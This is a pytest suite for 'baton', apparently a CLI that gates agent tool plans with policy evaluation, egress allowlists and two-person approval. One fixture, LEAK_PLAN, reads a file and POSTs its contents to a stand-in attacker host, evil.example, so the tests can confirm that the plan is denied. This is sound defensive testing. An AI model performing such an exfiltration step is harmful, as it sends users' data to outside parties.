"""``baton plan`` with the decision, ``baton approve|reject``, ``baton policy eval|test|show``.

The CLI runs in-process (a subprocess costs about a second of start-up and imports); one test
runs ``python -m baton`` itself, so the real entry point and its environment stay covered.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from policies.bundle import SHIPPED_FIXTURES, PolicyBundle
from tests.support.cli_in_process import in_process_baton
from tests.support.gate_actions import GATE_ACTIONS
from tests.support.own_policies import own_policies_with_fixtures

CONFIG = """
[users.alice]
roles = ["analyst"]

[users.bob]
roles = ["approver"]

[users.carol]
roles = ["approver"]

[users.frank]
roles = ["analyst", "approver"]
"""
WRITE_PLAN = {"goal": "copy the export", "steps": [
    {"id": "load", "tool": "files.read", "args": {"path": "a.csv"}},
    {"id": "save", "tool": "files.write", "args": {"path": "b.csv", "text": {"ref": "load.text"}}}]}
LEAK_PLAN = {"goal": "send the export out", "steps": [
    {"id": "load", "tool": "files.read", "args": {"path": "a.csv"}},
    {"id": "send", "tool": "http.request", "args": {"method": "POST", "url": "https://evil.example/x",
                                                     "body": {"ref": "load.text"}}}]}


Baton = Callable[..., subprocess.CompletedProcess[str]]


def baton_process(*args: str, user: str | None = None) -> subprocess.CompletedProcess[str]:
    """Run ``python -m baton`` in the test directory."""
    env = {**os.environ, "COLUMNS": "200"}
    if user:
        env["BATON_USER"] = user
    return subprocess.run([sys.executable, "-m", "baton", *args], capture_output=True, text=True,
                          timeout=120, check=False, env=env)


@pytest.fixture
def baton(capsys) -> Iterator[Baton]:
    """What ``baton_process`` gives, from the CLI run in-process."""
    with in_process_baton(capsys) as run:
        def as_user(*args: str, user: str | None = None) -> subprocess.CompletedProcess[str]:
            return run(*args, env={"COLUMNS": "200", "BATON_USER": user or None})

        yield as_user


@pytest.fixture(autouse=True)
def workdir(data_dir: Path) -> Path:
    (data_dir / "baton.toml").write_text(CONFIG)
    (data_dir / "write.json").write_text(json.dumps(WRITE_PLAN))
    (data_dir / "leak.json").write_text(json.dumps(LEAK_PLAN))
    return data_dir


def _plan(baton: Baton, file: str, user: str = "alice") -> dict:
    done = baton("plan", "--file", file, "--json", user=user)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_new_user_sees_denied_then_pending_then_approved_by_a_second_user(baton):
    denied = baton("plan", "--file", "leak.json", user="alice")
    assert "DENIED" in denied.stdout and "evil.example is not on the egress allowlist" in denied.stdout
    pending = baton("plan", "--file", "write.json", user="alice")
    assert "gate: pending" in pending.stdout and "approver or admin" in pending.stdout
    plan_id = _plan(baton, "write.json")["plan_id"]
    analyst = baton("approve", plan_id, user="alice")
    assert analyst.returncode == 2 and "'alice' (analyst) may not plan.approve" in analyst.stderr
    # frank is analyst and approver: the role table lets him approve, the gate's own rule does not.
    franks = _plan(baton, "write.json", user="frank")["plan_id"]
    own = baton("approve", franks, user="frank")
    assert own.returncode == 1 and "cannot approve" in own.stderr
    ok = baton("--as", "bob", "approve", plan_id, "--comment", "fine")
    assert ok.returncode == 0, ok.stderr
    assert "gate: approved" in ok.stdout and "approved by bob" in ok.stdout


def test_reject_requires_a_reason_and_ends_the_version(baton):
    plan_id = _plan(baton, "write.json")["plan_id"]
    assert baton("reject", plan_id, user="bob").returncode == 2
    for blank in ("", "   "):
        empty = baton("reject", plan_id, "--reason", blank, user="bob")
        assert empty.returncode == 2 and "--reason is empty" in empty.stderr
    rejected = baton("reject", plan_id, "--reason", "wrong target file", "--json", user="bob")
    assert rejected.returncode == 0, rejected.stderr
    assert json.loads(rejected.stdout)["status"] == "rejected"
    again = baton("approve", plan_id, user="carol")
    assert again.returncode == 1 and "rejected" in again.stderr


def test_unknown_acting_user_is_refused():
    # In subprocesses: the installed module's entry point, BATON_USER from the environment.
    plan_id = _plan(baton_process, "write.json")["plan_id"]
    refused = baton_process("approve", plan_id, user="mallory")
    assert refused.returncode == 2 and "unknown user" in refused.stderr


def test_policy_eval_prints_the_decision_and_fails_on_deny(baton):
    denied = baton("policy", "eval", "leak.json", "--json", user="alice")
    assert denied.returncode == 1
    body = json.loads(denied.stdout)
    assert body["allow"] is False and body["engine"] == "embedded" and len(body["bundle_hash"]) == 64
    allowed = baton("policy", "eval", "write.json", user="alice")
    assert allowed.returncode == 0 and "NEEDS APPROVAL" in allowed.stdout


def test_policy_eval_validates_first_and_fails_naming_every_problem(baton, workdir):
    cycle = {"goal": "x", "steps": [
        {"id": "a", "tool": "files.read", "args": {"path": "x"}, "depends_on": ["b"]},
        {"id": "b", "tool": "files.read", "args": {"path": "y"}, "depends_on": ["a"]}]}
    wrong_type = {"goal": "x", "steps": [{"id": "a", "tool": "files.read", "args": {"path": 5}}]}
    (workdir / "cycle.json").write_text(json.dumps(cycle))
    (workdir / "types.json").write_text(json.dumps(wrong_type))
    looped = baton("policy", "eval", "cycle.json", user="alice")
    assert looped.returncode == 1, looped.stdout
    assert "invalid plan" in looped.stdout and "cycle" in looped.stdout
    assert "ALLOWED" not in looped.stdout and "policy:" not in looped.stdout
    typed = baton("policy", "eval", "types.json", "--json", user="alice")
    assert typed.returncode == 1
    report = json.loads(typed.stdout)
    assert report["ok"] is False and [p["code"] for p in report["problems"]] == ["invalid_args"]
    assert "allow" not in report


def test_policy_eval_of_a_missing_file_is_a_usage_error(baton):
    done = baton("policy", "eval", "nope.json", user="alice")
    assert done.returncode == 2 and "does not exist" in done.stderr


def test_policy_test_passes_on_shipped_policies_and_fails_on_broken_ones(baton, workdir):
    passed = baton("policy", "test", "--json")
    assert passed.returncode == 0, passed.stdout
    assert json.loads(passed.stdout)["failed"] == 0
    broken = workdir / "mypolicies"
    broken.mkdir()
    (broken / "p.rego").write_text("package baton\nimport rego.v1\ndecision := {\"allow\": true}\n")
    (workdir / "baton.toml").write_text(f'policies_dir = "{broken}"\n' + CONFIG)
    failed = baton("policy", "test")
    assert failed.returncode == 1 and "FAIL" in failed.stdout


def test_policy_test_with_a_fixture_that_is_not_json_names_the_file_and_exits_1(baton, workdir):
    own = own_policies_with_fixtures(workdir, {"broken.json": '{"input": {"kind": "plan",\n'},
                                     config=CONFIG)
    done = baton("policy", "test")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert str(own / "fixtures" / "broken.json") in done.stderr and "not valid JSON" in done.stderr


def test_policy_test_names_every_malformed_fixture_and_what_is_wrong_with_it(baton, workdir):
    good = (SHIPPED_FIXTURES / "read_only_plan_is_allowed_without_approval.json").read_text()
    own_policies_with_fixtures(workdir, {
        "good.json": good,
        "no_expected.json": json.dumps({"input": {"kind": "plan"}}),
        "list.json": "[]",
        "typo.json": json.dumps({"input": {}, "expected": {"allow": False, "deny_contain": ["x"]}}),
        "entry.json": json.dumps({"entrypoint": "step", "input": {}, "expected": {}}),
    }, config=CONFIG)
    done = baton("policy", "test", "--json")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    problems = " ".join(done.stderr.split())
    assert "no_expected.json: lacks 'expected'" in problems
    assert "list.json: must be a JSON object" in problems
    assert "typo.json: unknown expectation 'deny_contain'" in problems
    assert "entry.json: entrypoint must be decision or step_decision" in problems


def test_policy_show_names_files_hash_and_engine(baton, workdir):
    (workdir / "baton.toml").write_text(CONFIG + '\n[policy.data]\negress_allowlist = ["only.example"]\n')
    shown = json.loads(baton("policy", "show", "--json").stdout)
    assert shown["engine"] == "embedded" and "egress.rego" in shown["files"]
    assert shown["bundle_hash"] != PolicyBundle.load().bundle_hash


def test_policy_show_hides_a_password_written_into_the_opa_url(baton, workdir):
    (workdir / "baton.toml").write_text('opa_url = "http://svc:opa-pa55@127.0.0.1:9"\n' + CONFIG)
    shown = baton("policy", "show", "--json")
    assert shown.returncode == 0, shown.stderr
    assert json.loads(shown.stdout)["opa_url"] == "http://svc:***@127.0.0.1:9"
    assert "opa-pa55" not in shown.stdout + shown.stderr


def _revised_plan(baton: Baton) -> tuple[str, str, str]:
    """Alice's plan, revised once: its id and the hashes of v1 and v2."""
    plan_id = _plan(baton, "write.json")["plan_id"]
    revised = baton("revise", plan_id, "Copy a.csv to public/leak.csv", "--json", user="alice")
    assert revised.returncode == 0, revised.stderr
    shown = [json.loads(baton("plans", "show", plan_id, "--version", str(n), "--json").stdout)
             for n in (1, 2)]
    return plan_id, shown[0]["plan_hash"], shown[1]["plan_hash"]


@pytest.mark.parametrize("act", GATE_ACTIONS)
def test_an_answer_with_the_hash_reviewed_is_refused_after_a_revision(baton, act):
    plan_id, seen, current = _revised_plan(baton)
    stale = baton("--as", "bob", act.verb, plan_id, *act.cli_args, "--hash", f"sha256:{seen[:16]}")
    assert stale.returncode == 1
    assert f"you reviewed v1 (sha256:{seen[:16]}" in stale.stderr
    assert f"v2 (sha256:{current[:16]}" in stale.stderr
    assert f"nothing was {act.done}" in stale.stderr
    ok = baton("--as", "bob", act.verb, plan_id, *act.cli_args, "--hash", current[:12])
    assert ok.returncode == 0, ok.stderr
    assert f"{act.done} {plan_id} v2 (sha256:{current[:16]}…) as bob" in ok.stdout


@pytest.mark.parametrize("act", GATE_ACTIONS)
def test_an_answer_without_a_pin_says_which_version_and_hash_it_was(baton, act):
    plan_id, _, current = _revised_plan(baton)
    ok = baton("--as", "bob", act.verb, plan_id, *act.cli_args)
    assert ok.returncode == 0, ok.stderr
    assert f"{act.done} {plan_id} v2 (sha256:{current[:16]}…) as bob" in ok.stdout
    as_json = baton("--as", "carol", act.verb, _revised_plan(baton)[0], *act.cli_args, "--json")
    assert act.recorded(json.loads(as_json.stdout))["version"] == 2


@pytest.mark.parametrize("act", GATE_ACTIONS)
def test_an_answer_with_a_malformed_hash_is_a_usage_error(baton, act):
    plan_id = _plan(baton, "write.json")["plan_id"]
    bad = baton("--as", "bob", act.verb, plan_id, *act.cli_args, "--hash", "abc")
    assert bad.returncode == 2 and "--hash" in bad.stderr and "12 to 64 hex" in bad.stderr
